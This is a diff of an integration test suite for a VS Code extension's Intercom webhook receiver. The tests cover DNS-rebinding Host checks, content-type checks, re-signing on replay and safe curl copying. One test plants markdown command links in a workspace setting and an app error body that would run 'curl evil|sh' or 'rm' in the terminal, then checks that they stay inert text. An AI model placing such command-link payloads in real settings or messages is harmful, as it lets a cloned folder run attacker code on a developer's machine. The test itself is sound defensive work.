@@ -8,6 +8,7 @@ import { findFreePort } from '../../src/webhooks/receiver';
 import { signatureHeader } from '../../src/webhooks/signature';
 import { deliverNotification, type DeliveryFlaw } from '../fake-intercom';
 import { send, startLocalApp, type LocalApp } from '../support/localApp';
+import { notificationLinks } from '../support/notificationLinks';
 import { CLIENT_ID, CLIENT_SECRET, pointAt, setUserSettings, startSandbox, type Sandbox } from './sandbox';
 import { ScriptedUi, activateExtension, until, type TestApi } from './support';
 
@@ -145,16 +146,50 @@ suite('Webhooks (real extension host, fake Intercom deliverer)', function () {
 
   test('bad input gets its 4xx and message, and is kept in the log', async () => {
     const url = await start();
-    const notJson = await send(url, { body: 'topic=ping' });
+    const json = { 'content-type': 'application/json' };
+    const notJson = await send(url, { body: 'topic=ping', headers: json });
     assert.equal(notJson.status, 400);
     assert.match(notJson.body, /not JSON/);
     const get = await send(url, { method: 'GET' });
     assert.equal(get.status, 405);
-    const large = await send(url, { headers: { 'content-length': 2 * 1024 * 1024 }, body: '{', stall: true });
+    const large = await send(url, { headers: { ...json, 'content-length': 2 * 1024 * 1024 }, body: '{', stall: true });
     assert.equal(large.status, 413);
-    await until(() => rows().length === 3, 'three rejected requests in the log');
-    assert.deepEqual(rows().map((r) => r.description.split(' · ')[0]), ['413 over 1 MiB', '405 method not allowed', '400 not JSON']);
+    // What a web page can send without asking first (CORS): a text/plain body, to a name it points at 127.0.0.1.
+    assert.equal((await send(url, { body: '{}', headers: { 'content-type': 'text/plain' } })).status, 415);
+    assert.equal((await send(url, { body: '{}', headers: { ...json, host: `rebound.example:${port}` } })).status, 421);
+    await until(() => rows().length === 5, 'five rejected requests in the log');
+    assert.deepEqual(rows().map((r) => r.description.split(' · ')[0]), ['421 unknown host', '415 not application/json', '413 over 1 MiB', '405 method not allowed', '400 not JSON']);
+    assert.match(rows()[0].tooltip, /intercom\.webhooks\.tunnelHosts/);
     assert.ok(rows().every((r) => r.item.contextValue === 'intercom.webhookRejected'), 'no replay for rejected requests');
+  });
+
+  test('a large notification (over 64 KiB, parsed off the host\'s thread) is answered and logged with its topic', async () => {
+    const url = await start();
+    const body = JSON.stringify({ type: 'notification_event', id: 'notif_large', topic: 'conversation.admin.noted', data: { item: { parts: 'x'.repeat(200_000) } } });
+    assert.equal((await send(url, { body, headers: { 'content-type': 'application/json' } })).status, 200);
+    const row = await rowFor('the large row', (r) => r.label === 'conversation.admin.noted');
+    assert.match(row.description, /no signature/);
+  });
+
+  test('a tunnel that keeps its own Host reaches the receiver once the user names it in intercom.webhooks.tunnelHosts', async () => {
+    const url = await start();
+    const tunnel = { 'content-type': 'application/json', host: 'abcd-1234.ngrok-free.app' };
+    assert.equal((await send(url, { body: '{"id":"notif_tunnel"}', headers: tunnel })).status, 421);
+    await setUserSettings({ 'webhooks.tunnelHosts': ['abcd-1234.ngrok-free.app'] });
+    try {
+      assert.equal((await send(url, { body: '{"id":"notif_tunnel"}', headers: tunnel })).status, 200);
+    } finally {
+      await setUserSettings({ 'webhooks.tunnelHosts': undefined });
+    }
+  });
+
+  test('a forward target that is the receiver itself is refused, by any loopback name', async () => {
+    await setUserSettings({ 'webhooks.forwardTo': `http://localhost:${port}/` });
+    await start();
+    assert.match((await ui.waitForMessage((m) => m.level === 'error')).text, /points at the webhook receiver itself/);
+    await deliver('ping');
+    const row = await rowFor('the ping row', (r) => r.label === 'ping');
+    assert.doesNotMatch(row.description, /→/, 'not forwarded');
   });
 
   test('forwarding: byte for byte to the app; refused and slow say how to fix', async () => {
@@ -188,17 +223,23 @@ suite('Webhooks (real extension host, fake Intercom deliverer)', function () {
     }
   });
 
-  test('replay sends the logged notification again, re-signed, and counts it', async () => {
+  test('replay sends the logged notification again, re-signed when it verified, as received when not, and counts it', async () => {
     await setUserSettings({ 'webhooks.forwardTo': app.url });
-    const report = await deliver('contact.user.updated', 'badSignature');
+    const report = await deliver('contact.user.updated');
     const row = await rowFor('the forwarded row', (r) => /→ 200/.test(r.description));
     await vscode.commands.executeCommand('intercom.replayWebhook', row.node);
     assert.equal(app.received.length, 2);
     assert.equal(app.received[1].body.toString(), report.body);
     assert.equal(app.received[1].headers['x-hub-signature'], signatureHeader(report.body, CLIENT_SECRET), 're-signed with the app secret');
-    assert.notEqual(app.received[0].headers['x-hub-signature'], app.received[1].headers['x-hub-signature']);
     assert.match(rows()[0].description, /replayed ×1/);
-    assert.match((await ui.waitForMessage((m) => m.text.startsWith('Forwarded to'))).text, /answered 200/);
+    assert.match((await ui.waitForMessage((m) => m.text.startsWith('Forwarded to'))).text, /answered 200 in \d+ ms\.$/);
+
+    const forged = await deliver('contact.user.deleted', 'badSignature');
+    const forgedRow = await rowFor('the forged row', (r) => r.label === 'contact.user.deleted' && /→ 200/.test(r.description));
+    await vscode.commands.executeCommand('intercom.replayWebhook', forgedRow.node);
+    assert.equal(app.received.length, 4);
+    assert.equal(app.received[3].headers['x-hub-signature'], forged.signature, 'sent with the signature it came with');
+    assert.match((await ui.waitForMessage((m) => /not re-signed/.test(m.text))).text, /vouch for bytes someone else chose/);
   });
 
   test('Send Test Webhook: topics used in this folder first; a saved fixture is what is sent, signed', async () => {
@@ -218,6 +259,12 @@ suite('Webhooks (real extension host, fake Intercom deliverer)', function () {
     assert.equal(saved.topic, 'conversation.user.replied');
     assert.equal(saved.data.item.type, 'conversation');
 
+    await vscode.workspace.fs.writeFile(fixture, Buffer.from('{"type":"notification_event", oops'));
+    ui.answerPicks(topic, (items) => items.find((i) => i.label === 'Send'));
+    assert.equal(await vscode.commands.executeCommand('intercom.sendTestWebhook'), undefined);
+    assert.match((await ui.waitForMessage((m) => m.level === 'error')).text, /conversation\.user\.replied\.json is not JSON/);
+    assert.equal(app.received.length, 0, 'a fixture that is not JSON is not sent');
+
     const edited = Buffer.from(`{"type":"notification_event","id":"notif_fixture","topic":"conversation.user.replied","edited":true}\n`);
     await vscode.workspace.fs.writeFile(fixture, edited);
     ui.answerPicks(topic, (items) => items.find((i) => i.label === 'Send'));
@@ -229,23 +276,59 @@ suite('Webhooks (real extension host, fake Intercom deliverer)', function () {
     await vscode.workspace.fs.delete(vscode.Uri.joinPath(folder, '.intercom'), { recursive: true });
   });
 
-  test('Copy as curl never contains the secret', async () => {
+  test('Copy as curl never contains the secret, and sends only where forwarding may go', async () => {
     await deliver('ping');
     const row = await rowFor('the ping row', (r) => r.label === 'ping');
     await vscode.commands.executeCommand('intercom.copyWebhookCurl', row.node);
     const curl = await vscode.env.clipboard.readText();
     assert.match(curl, /openssl dgst -sha1 -hmac "\$INTERCOM_CLIENT_SECRET"/);
     assert.ok(!curl.includes(CLIENT_SECRET));
+
+    await vscode.env.clipboard.writeText('before');
+    await setUserSettings({ 'webhooks.forwardTo': 'https://example.com/hooks' });
+    await vscode.commands.executeCommand('intercom.copyWebhookCurl', row.node);
+    assert.match((await ui.waitForMessage((m) => m.level === 'error')).text, /points away from this machine/);
+    assert.equal(await vscode.env.clipboard.readText(), 'before', 'nothing copied');
   });
 
-  test('the log survives a reload; Clear empties it', async () => {
-    await deliver('article.created');
+  test('a forward target the folder set puts no link in any message: Send Test Webhook, Replay, the app\'s error body, Copy as curl', async () => {
+    // A cloned folder's settings.json: the fragment passes the loopback check and reads as a second URL.
+    const planted = '[http://localhost:3000/webhooks](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
+    await vscode.workspace.getConfiguration('intercom').update('webhooks.forwardTo', `${app.url}#${planted}`, vscode.ConfigurationTarget.Workspace);
+    try {
+      ui.answerPicks((items) => items.find((i) => i.label === 'ping'), (items) => items.find((i) => i.label === 'Send'));
+      await vscode.commands.executeCommand('intercom.sendTestWebhook');
+      const sent = await ui.waitForMessage((m) => m.text.startsWith('Forwarded to'));
+
+      await deliver('contact.user.updated');
+      const row = await rowFor('the forwarded row', (r) => r.label === 'contact.user.updated' && /→ 200/.test(r.description));
+      app.answer = { status: 500, body: `[Restart the app](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%22%7D) failed` };
+      await vscode.commands.executeCommand('intercom.replayWebhook', row.node);
+      const failed = await ui.waitForMessage((m) => m.text.includes('answered 500'));
+
+      await vscode.commands.executeCommand('intercom.copyWebhookCurl', row.node);
+      const copied = await ui.waitForMessage((m) => m.text.startsWith('Copied a curl command'));
+      for (const shown of [sent, failed, copied]) {
+        assert.ok(shown.text.includes('command:workbench.action.terminal.sendSequence'), `the planted text is still shown, as text: ${shown.text}`);
+        assert.deepEqual(notificationLinks(shown.text), [], shown.text);
+      }
+    } finally {
+      await vscode.workspace.getConfiguration('intercom').update('webhooks.forwardTo', undefined, vscode.ConfigurationTarget.Workspace);
+    }
+  });
+
+  test('the log survives a reload, bodies included; Clear empties it', async () => {
+    const report = await deliver('article.created');
     await rowFor('the row', (r) => r.label === 'article.created');
     await api.webhooks.reload();
+    await api.webhooks.load().ready;
     assert.deepEqual(rows().map((r) => r.label), ['article.created'], 'read back from workspace storage');
     assert.match(rows()[0].description, /✓ verified/);
+    const document = await vscode.commands.executeCommand<vscode.TextDocument>('intercom.openWebhookEvent', rows()[0].node);
+    assert.ok(document.getText().endsWith(`${JSON.stringify(JSON.parse(report.body), null, 2)}\n`), document.getText());
     await vscode.commands.executeCommand('intercom.clearWebhookEvents');
     await api.webhooks.reload();
+    await api.webhooks.load().ready;
     assert.deepEqual(rows(), []);
   });
 });
